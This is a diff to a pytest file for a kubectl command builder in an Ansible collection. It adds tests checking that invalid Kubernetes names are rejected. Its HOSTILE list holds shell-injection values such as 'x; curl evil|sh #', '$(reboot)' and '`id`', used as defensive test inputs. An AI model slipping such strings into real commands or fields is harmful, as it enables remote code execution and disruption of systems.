@@ -2,7 +2,7 @@
 # GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""Commands for pods that fail in several places at once. tests/cluster types what these tests only compare."""
+"""Commands for pods that fail in several places at once. tests/cluster runs what these tests only compare."""
 
 from __future__ import annotations
 
@@ -13,6 +13,9 @@ import pytest
 import yaml
 
 from ansible_collections.killinit.zot.plugins.module_utils._cluster.commands import Commands
+from ansible_collections.killinit.zot.plugins.module_utils._cluster.pull_events import PullFailure
+from ansible_collections.killinit.zot.plugins.module_utils._cluster.workloads import ImageUse
+from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
 
 KUBECTL = "kubectl --namespace=openclaw"
 USES = {
@@ -24,12 +27,18 @@ USES = {
 }
 
 
-def commands(subject: str = "deployment/openclaw", *, pods: t.Sequence[str] = ("b", "a"), uses: str = "") -> Commands:
+IMAGE = Reference.parse("h.example/r:2")
+
+
+def failure(owner: str, name: str, pod: str, kind: str = "container") -> PullFailure:
+    owner_kind, _slash, owner_name = owner.partition("/")
+    use = ImageUse(kind, name, "h.example/r:1", "Always", ("containers", 0))
+    return PullFailure(pod, owner_kind, owner_name, "node", use, "failed", "", (), "default", None)
+
+
+def commands(owner: str = "deployment/openclaw", *, pods: t.Sequence[str] = ("b", "a"), uses: str = "") -> Commands:
     chosen = uses.split() or list(USES)
-    return Commands(
-        "openclaw",
-        [{"subject": subject, "name": name, "use": USES[name], "pod": pod} for name in chosen for pod in pods],
-    )
+    return Commands("openclaw", [failure(owner, name, pod, USES[name]) for name in chosen for pod in pods])
 
 
 def patched(command: str) -> t.Any:
@@ -41,10 +50,12 @@ def patched(command: str) -> t.Any:
 
 
 def test_set_image() -> None:
-    containers, volumes = commands().set_image("h/r:2")
-    assert containers == f"{KUBECTL} set image deployment/openclaw app=h/r:2 web=h/r:2 first=h/r:2"
+    containers, volumes = commands().set_image(IMAGE)
+    assert (
+        containers == f"{KUBECTL} set image deployment/openclaw app=h.example/r:2 web=h.example/r:2 first=h.example/r:2"
+    )
     assert patched(volumes) == {
-        "volumes": [{"name": name, "image": {"reference": "h/r:2"}} for name in ("data", "more")],
+        "volumes": [{"name": name, "image": {"reference": "h.example/r:2"}} for name in ("data", "more")],
     }
 
 
@@ -64,7 +75,7 @@ def test_only_on() -> None:
 
 
 @pytest.mark.parametrize(
-    ("subject", "pods", "expected"),
+    ("owner", "pods", "expected"),
     [
         ("deployment/openclaw", ("b", "a"), ["delete pod a b"]),
         ("deployment/openclaw", tuple("abcde"), ["delete pod a b c d e"]),
@@ -73,5 +84,74 @@ def test_only_on() -> None:
         ("pod/alone", ("alone",), []),
     ],
 )
-def test_again(subject: str, pods: tuple[str, ...], expected: list[str]) -> None:
-    assert commands(subject, pods=pods, uses="app").again() == [f"{KUBECTL} {each}" for each in expected]
+def test_recreate_pods(owner: str, pods: tuple[str, ...], expected: list[str]) -> None:
+    assert commands(owner, pods=pods, uses="app").recreate_pods() == [f"{KUBECTL} {each}" for each in expected]
+
+
+@pytest.mark.parametrize("name", ["123", "0x1f", "1e3", "on", "null", "y"])
+def test_a_name_that_yaml_would_not_take_for_text(name: str) -> None:
+    """Kubernetes allows these names; a patch with a number in place of a name is refused."""
+    (command,) = commands(uses="app").pull_with(name)
+    assert patched(command) == {"imagePullSecrets": [{"name": name}]}
+
+
+HOSTILE = [
+    "x; curl evil|sh #",
+    "$(reboot)",
+    "`id`",
+    "--all",
+    "-x",
+    "a\nb",
+    "a b",
+    "\x1b[2J",
+    "",
+    "A",
+    "a/b",
+    "a'b",
+    'a"b',
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+class TestHostileNames:
+    """A name that Kubernetes does not allow is in no command, and is reported."""
+
+    def all_of(self, found: Commands) -> list[str]:
+        return [
+            *found.set_image(IMAGE),
+            *found.always_pull(),
+            *found.only_on("arm64"),
+            *found.pull_with("zot-pull-secret"),
+            *found.recreate_pods(),
+            *found.recreate_pods(changed=True),
+        ]
+
+    def test_of_an_owner(self, hostile: str) -> None:
+        """The pods can still be deleted."""
+        for owner in (f"deployment/{hostile}", f"{hostile}/openclaw" if "/" not in hostile else "/openclaw"):
+            found = Commands("openclaw", [failure(owner, "app", "pod-1")])
+            assert found.invalid == (owner,)
+            assert set(self.all_of(found)) == {f"{KUBECTL} delete pod pod-1"}
+
+    def test_of_a_pod(self, hostile: str) -> None:
+        found = Commands("openclaw", [failure("statefulset/db", "app", each) for each in ("db-0", hostile)])
+        assert found.invalid == (hostile,)
+        assert not [each for each in self.all_of(found) if "delete" in each]
+        assert found.set_image(IMAGE) == [f"{KUBECTL} set image statefulset/db app=h.example/r:2"]
+
+    @pytest.mark.parametrize("kind", ["container", "image volume"])
+    def test_of_a_container(self, hostile: str, kind: str) -> None:
+        found = Commands("openclaw", [failure("deployment/openclaw", hostile, "pod-1", kind)])
+        assert found.invalid == (hostile,)
+        assert found.set_image(IMAGE) == []
+        assert found.always_pull() == []
+
+    def test_of_a_secret_or_a_service_account(self, hostile: str) -> None:
+        found = commands()
+        assert found.pull_with(hostile) == []
+        assert found.name_secret(hostile, "zot-pull-secret") == []
+        assert found.name_secret("default", hostile) == []
+        assert found.repair_secret("h.example", hostile) == []
+
+    def test_of_an_architecture(self, hostile: str) -> None:
+        assert commands().only_on(hostile) == []
